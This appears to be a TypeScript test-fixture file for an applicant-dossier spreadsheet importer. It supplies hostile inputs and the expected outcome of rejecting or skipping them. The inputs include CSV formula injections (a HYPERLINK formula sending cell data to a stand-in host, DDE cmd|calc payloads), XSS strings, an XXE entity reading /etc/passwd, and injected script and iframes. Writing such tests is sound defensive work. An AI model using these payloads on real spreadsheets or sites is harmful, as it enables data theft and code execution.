import { takenIn, type CorpusFile } from './corpus-file.js';
import { person } from './people.js';
import { bytesOf, cells, COLUMN, csv, dossier, dossiersOf, escaped, HEADER, html, list } from './sheet.js';

const { applicant, phone } = person(1);

/** What a spreadsheet or a page would carry out, were it to see it as its own. */
export const ACTIVE_TEXTS = [
  '=HYPERLINK("http://ioc.example/?"&A1;"xem")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>',
] as const;

const activeRows = ACTIVE_TEXTS.flatMap((text) => [
  cells(dossier({ status: text })),
  cells(dossier({ unit: text })),
  cells(dossier()).with(COLUMN.address, text),
]);
const activeWaits = ACTIVE_TEXTS.flatMap((_, index) => [
  [2 + 3 * index, 'unknown-status', 'status'] as const,
  [3 + 3 * index, 'unknown-unit', 'unitName'] as const,
]);
/** A dossier code that begins as a formula does: nothing may come of it. */
const formulaCode = cells(dossier({ code: '=1+1' }));

const doctype = `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY l "${applicant}">]>`;
const withDoctype = doctype + html(list(dossiersOf(2).map((row) => row.with(COLUMN.address, '&x;&l;&l;&l;'))));
const scripted = html(list(dossiersOf(2)), {
  head: `<script>document.write("<table><tr><td>${applicant}</td></tr></table>")</script><style>td { content: "${phone}" }</style>`,
  before: '<iframe src="file:///etc/passwd"></iframe>',
});
const comment = html(list(dossiersOf(2)), { before: `<!-- <table><tr><td>${applicant}</td></tr></table> -->` });

/** Texts that would act if somebody let them. */
export const HOSTILE: readonly CorpusFile[] = [
  { name: 'formulas and scripts in cells.csv', bytes: () => bytesOf(csv([HEADER, ...activeRows, formulaCode])), expected: takenIn({ new: 7, skipped: 1 }, ...activeWaits, [23, 'unreadable-row', 'code']) },
  {
    name: 'formulas and scripts in cells.xls',
    bytes: () => bytesOf(html(list(ACTIVE_TEXTS.map((text) => cells(dossier({ code: '' })).with(COLUMN.channel, escaped(text)))))),
    expected: takenIn({ skipped: 5 }, ...ACTIVE_TEXTS.map((_, index) => [5 + index, 'missing-code', 'code'] as const)),
  },
  { name: 'entities and a document type.xls', bytes: () => bytesOf(withDoctype), expected: takenIn({ new: 2, skipped: 5 }) },
  { name: 'scripts around the table.xls', bytes: () => bytesOf(scripted), expected: takenIn({ new: 2, skipped: 5 }) },
  { name: 'a table in a comment.xls', bytes: () => bytesOf(comment), expected: takenIn({ new: 2, skipped: 5 }) },
];
